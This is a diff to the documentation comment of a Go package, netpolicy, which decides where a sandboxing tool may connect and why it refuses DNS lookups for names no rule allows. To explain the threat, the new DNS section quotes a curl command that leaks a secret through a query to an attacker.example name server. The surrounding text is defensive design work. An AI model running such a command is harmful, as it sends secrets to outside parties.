@@ -1,11 +1,29 @@
 // Package netpolicy decides where dsh and the worlds it runs may connect.
 //
 // A Policy judges a destination in a fixed order (always-deny metadata
-// endpoints, explicit deny, special-purpose address ranges, explicit
-// allow, the default) and every Decision carries its reason and rule. The
-// guarded Dialer resolves, checks every address, and dials only the
-// address it checked; the egress Proxy applies a world's Policy to the
-// traffic of the processes inside it.
+// endpoints, explicit deny, names no name rule could allow,
+// special-purpose address ranges, explicit allow, the default) and every
+// Decision carries its reason and rule. The guarded Dialer resolves,
+// checks every address, and dials only the address it checked; the
+// egress Proxy applies a world's Policy to the traffic of the processes
+// inside it.
+//
+// # Names and DNS
+//
+// A lookup carries data out by itself (curl -x $HTTP_PROXY
+// http://<secret>.attacker.example/ puts the secret in a query to the
+// attacker's name server), so a name is resolved only if a name rule
+// could allow it: an allow entry that is a host name, a *.glob or "*"
+// matching the name and port, or default public admitting the port —
+// and no always-deny or deny entry refuses it (Policy.MayResolve; the
+// Dialer asks it before every lookup). IP, IP:port and CIDR entries
+// allow addresses written as addresses, never names: with only
+// --allow 10.0.0.0/8, a request for intranet.corp is denied before any
+// lookup (rule "name-not-resolved", with a reason that names the fix:
+// allow it by name, --allow intranet.corp:443). Once a name is
+// resolved, its addresses are judged by every entry, so a name allowed
+// by name that resolves to a special-purpose address still needs an
+// address entry for it (--allow intranet.corp:443 --allow 10.0.0.0/8).
 //
 // # Special-purpose addresses
 //
